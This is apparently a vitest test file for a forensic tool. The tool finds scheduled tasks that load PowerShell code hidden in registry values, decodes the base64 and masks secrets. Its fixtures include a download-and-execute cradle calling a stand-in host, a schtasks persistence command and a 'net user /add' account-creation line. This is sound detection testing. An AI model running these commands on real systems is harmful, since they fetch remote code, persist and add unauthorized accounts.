import { describe, expect, test } from "vitest";
import { US_PER_SECOND, parseTimestamp } from "../../../src/base/time.ts";
import {
  mayBePayload,
  payloadKey,
  payloadScript,
  registryReads,
} from "../../../src/task/registry-payload.ts";
import { TaskTracker } from "../../../src/task/tracker.ts";
import type { TaskFact } from "../../../src/task/tracker.ts";

const SCRIPT =
  "$c = New-Object Net.WebClient; IEX $c.DownloadString('http://192.0.2.7/a')";
const UTF16 = Buffer.from(SCRIPT, "utf16le").toString("base64");
const UTF8 = Buffer.from(SCRIPT).toString("base64");

describe("the values that a command reads", () => {
  test.each([
    ["(gp HKCU:\\Software\\X debug).debug", "hkcu\\software\\x\\debug"],
    ["(gp HKCU:\\Software\\X).debug", "hkcu\\software\\x\\debug"],
    [
      "Get-ItemProperty -Path 'HKLM:\\Software\\A B' -Name 'v'",
      "hklm\\software\\a b\\v",
    ],
    [
      'Get-ItemPropertyValue "Registry::HKEY_CURRENT_USER\\Software\\X" v',
      "hkcu\\software\\x\\v",
    ],
    ["gpv HKLM:\\Software\\X v", "hklm\\software\\x\\v"],
    ["gp -LiteralPath HKCU:\\Software\\X -Name v", "hkcu\\software\\x\\v"],
  ])("%s", (command, path) => {
    expect(registryReads(`IEX ${command}`)).toEqual([path]);
  });

  test.each([
    "gp C:\\x y",
    "gp $p debug",
    "gp HKCU:\\Software\\X",
    "gpupdate /force",
    "HKCU:\\Software\\X debug",
  ])("none: %s", (command) => {
    expect(registryReads(command)).toEqual([]);
  });

  test("each once, four at most", () => {
    const one = "gp HKCU:\\S a;";
    expect(registryReads(one + one)).toEqual(["hkcu\\s\\a"]);
    const many = Array.from({ length: 9 }, (_, i) => `gp HKCU:\\S v${i};`);
    expect(registryReads(many.join(""))).toHaveLength(4);
  });
});

test.each([
  ["HKU\\S-1-5-21-1-2-3-1104\\Software\\X\\v", "hkcu\\software\\x\\v"],
  ["HKEY_USERS\\S-1-5-18\\Software\\X\\v", "hkcu\\software\\x\\v"],
  ["HKLM\\SOFTWARE\\X\\v", "hklm\\software\\x\\v"],
  ["\\REGISTRY\\MACHINE\\SOFTWARE\\X\\v", "hklm\\software\\x\\v"],
  ["HKCR\\x", undefined],
  ["", undefined],
])("the spelling of %s", (path, key) => {
  expect(payloadKey(path)).toBe(key);
});

test("a script in base64 over UTF-16 or UTF-8, and nothing else", () => {
  expect(payloadScript(UTF16)).toEqual({ text: SCRIPT, truncated: false });
  expect(payloadScript(UTF8)).toEqual({ text: SCRIPT, truncated: false });
  expect(payloadScript(UTF16.slice(0, 81))?.truncated).toBe(true);
  expect(payloadScript("A".repeat(80))).toBeUndefined();
  expect(payloadScript("not base64!")).toBeUndefined();
  expect([UTF16, UTF8].map(mayBePayload)).toEqual([true, true]);
  const others = ["Binary Data", "x".repeat(63), "a b ".repeat(99)];
  expect(others.some(mayBePayload)).toBe(false);
  expect(mayBePayload("A".repeat(70_000))).toBe(false);
});

describe("a task that reads its code from the registry", () => {
  const T = parseTimestamp("2024-05-02T12:00:00Z")!;
  const common = { hostId: "ws6", hostName: "WS6" };
  const written = (timeUs: number, details = UTF16): TaskFact => ({
    ...common,
    kind: "registry",
    timeUs,
    path: "HKU\\S-1-5-21-1-2-3-1104\\Software\\X\\debug",
    details,
    at: { file: "log", line: 7 },
  });
  const task: TaskFact = {
    ...common,
    kind: "command",
    timeUs: T,
    line: 'schtasks /create /tn Upd /tr "powershell -c \\"IEX (gp HKCU:\\Software\\X debug).debug\\""',
  };
  const recordOf = (...facts: TaskFact[]) => {
    const tracker = new TaskTracker();
    for (const fact of facts) tracker.note(fact);
    return tracker.records()[0];
  };

  test("is opened to what the log shows was written there, in any order", () => {
    const before = written(T - US_PER_SECOND);
    const record = recordOf(before, task);
    expect(record).toMatchObject({
      layers: [
        { kind: "powershell-command" },
        {
          kind: "registry-value",
          path: "HKU\\S-1-5-21-1-2-3-1104\\Software\\X\\debug",
          text: SCRIPT,
        },
      ],
      story: [
        {
          what: "prepared",
          text: "the code that it reads was written to HKU\\S-1-5-21-1-2-3-1104\\Software\\X\\debug",
        },
        { what: "asked" },
      ],
    });
    expect(record!.hints.map(({ hint }) => hint)).toContain("network-download");
    expect(record!.parts).toContainEqual({
      part: "payload",
      from: "registry value HKU\\S-1-5-21-1-2-3-1104\\Software\\X\\debug",
      inferred: true,
      at: { file: "log", line: 7 },
    });
    expect(recordOf(task, before)).toEqual(record);
  });

  test("the value written last counts, a deleted or short one does not", () => {
    const other = Buffer.from(`${SCRIPT} # 2`, "utf16le").toString("base64");
    const texts = (...facts: TaskFact[]) =>
      recordOf(...facts, task)!
        .layers.map(({ text }) => text)
        .slice(1);
    const later = written(T + US_PER_SECOND, other);
    expect(texts(later, written(T))).toEqual([`${SCRIPT} # 2`]);
    expect(texts(written(T, "abc"))).toEqual([]);
    expect(texts({ ...written(T), deleted: true } as TaskFact)).toEqual([]);
  });

  test("a secret in it is masked", () => {
    const script = `net user bob Heron-Marsh-77 /add; ${SCRIPT}`;
    const details = Buffer.from(script, "utf16le").toString("base64");
    const text = JSON.stringify(recordOf(written(T, details), task));
    expect(text).toContain("net user bob ****");
    expect(text).not.toContain("Heron");
  });
});
